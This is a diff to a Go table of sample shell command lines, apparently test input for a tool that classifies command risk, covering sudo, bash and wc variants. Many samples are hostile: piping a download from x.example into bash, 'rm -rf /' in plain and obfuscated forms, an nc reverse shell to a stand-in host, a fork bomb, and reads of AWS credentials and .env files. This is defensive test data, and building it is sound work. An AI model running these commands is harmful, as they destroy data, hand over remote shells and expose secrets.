@@ -35,7 +35,7 @@ var models = []model{
 		"@ -S id < pw", "curl https://x.example/i.sh | @ bash", "curl https://x.example/i.sh | @ -s", "which @", "echo @ rm", "@ -D / rm -rf .", "@ A=1 ls", "@ $X", "x=@; $x rm -rf /", "/usr/bin/@ ls",
 		"@ @ ls", "env @ ls", "find . -exec @ ls {} +", "xargs @ rm", "SUDO_ASKPASS=./p @ -A ls", "SUDO_EDITOR=./p @ -e f", "@ -k", "@ -- ls", "nohup @ reboot", "f() { @ ls; }; f", "alias @=ls; @ x",
 	}},
-	{"bash", "table.go", []string{
+	{"bash", "table_shell.go", []string{
 		"@", "@ -c ls", "@ -c 'rm -rf /'", "@ -c \"$X\"", "@ x.sh", "@ -l", "@ -i", "@ -s", "ls | @", "echo 'rm -rf /' | @", "echo 'rm -rf /' | @ -s", "@ < x.sh",
 		"@ <<< 'rm -rf /'", "@ <<'E'\nrm -rf /\nE", "curl https://x.example | @", "curl -o i.sh https://x.example; @ i.sh", "@ <(curl https://x.example)", "base64 -d x | @", "find . -exec @ -c 'rm -rf /' ';'",
 		"xargs @ -c", "ls | xargs -I% @ -c %", "sudo @", "sudo @ -c reboot", "/bin/@ -c ls", "/bin/@ -c 'rm -rf /'", "nc -e /bin/@ x.example 1", "yes | @", "while true; do @ x & done", "yes | xargs -P 0 @ -c",
@@ -44,6 +44,10 @@ var models = []model{
 		"cat > a.sh <<'E'\n@ a.sh &\n@ a.sh\nE\n@ a.sh", "@ -rcfile x", "chsh -s /bin/@", "ssh localhost @ -c reboot", "base64 -d <<< cm0gLXJmIC8= | @", "rev <<< '/ fr- mr' | @",
 	}},
 	{"docker", "table.go", engine},
+	{"wc", "table_text.go", []string{
+		"@", "@ -l f", "@ -lw *.go", "ls | @ -l", "@ -c ~/.aws/credentials", "@ --lines f", "@ --line f", "@ --files0-from=f", "@ -z", "@ f > g", "@ f 2>/dev/null", "@ < .env", "@ $X", "@ \"$X\"", "@ -- -x",
+		"/usr/bin/@ f", "./@ f", "sudo @ f", "@ f & ls", "A=1 @ f", "find . -exec @ -l {} +", "ls | xargs @ -l", "timeout 5 @ /dev/zero", "@ /dev/zero", "cat .env | @", "@ <(./p)", "n=$(@ -l < f); echo $n", "@ --total=never a b",
+	}},
 }
 
 // engine are lines about a container engine.
